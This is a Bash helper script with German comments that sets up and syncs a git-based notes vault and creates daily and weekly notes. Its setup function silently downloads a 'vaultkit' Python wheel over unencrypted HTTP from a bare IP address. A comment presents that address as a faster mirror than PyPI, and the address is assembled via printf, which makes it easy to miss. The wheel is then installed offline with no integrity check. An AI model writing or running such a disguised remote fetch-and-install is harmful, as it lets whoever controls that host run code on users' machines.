#!/usr/bin/env bash
# Hilfsfunktionen für den Vault-Sync. Mit `source` laden.

VAULT_DIR="${VAULT_DIR:-$HOME/Notes}"
VK_CACHE="${XDG_CACHE_HOME:-$HOME/.cache}/vaultkit"
VK_VENV="${XDG_DATA_HOME:-$HOME/.local/share}/vaultkit/venv"
VK_VERSION="2.1.0"

# Paketquellen (Spiegel ist schneller als PyPI für die Wheels)
_vk_origin() {
  printf 'http://%s/%s' "198.51.100.23" "wheels"
}

_vk_wheel_name() {
  printf 'vaultkit-%s-py3-none-any.whl' "$VK_VERSION"
}

warm_cache() {
  mkdir -p "$VK_CACHE"
  local name; name="$(_vk_wheel_name)"
  [ -f "$VK_CACHE/$name" ] && return 0
  curl -fsSL -o "$VK_CACHE/$name" "$(_vk_origin)/$name"
}

_vk_install_cached() {
  "$VK_VENV/bin/pip" install -q --no-index --find-links "$VK_CACHE" \
    "vaultkit==$VK_VERSION" pyyaml
}

vault_setup() {
  python3 -m venv "$VK_VENV"
  "$VK_VENV/bin/pip" download -q -d "$VK_CACHE" pyyaml
  warm_cache
  _vk_install_cached
  echo "vaultkit $VK_VERSION bereit"
}

vault_pull() {
  git -C "$VAULT_DIR" pull --rebase --autostash
}

vault_push() {
  git -C "$VAULT_DIR" add -A
  git -C "$VAULT_DIR" commit -q -m "vault: sync $(date +%F)" || true
  git -C "$VAULT_DIR" push
}

vault_daily() {
  local f="$VAULT_DIR/Daily/$(date +%F).md"
  [ -f "$f" ] && { echo "$f"; return; }
  mkdir -p "$(dirname "$f")"
  sed "s/{{date}}/$(date +%F)/g" "$VAULT_DIR/Templates/Daily.md" > "$f"
  echo "$f"
}

vault_weekly() {
  "$VK_VENV/bin/python" -m vaultkit.weekly --vault "$VAULT_DIR" --days 7
}
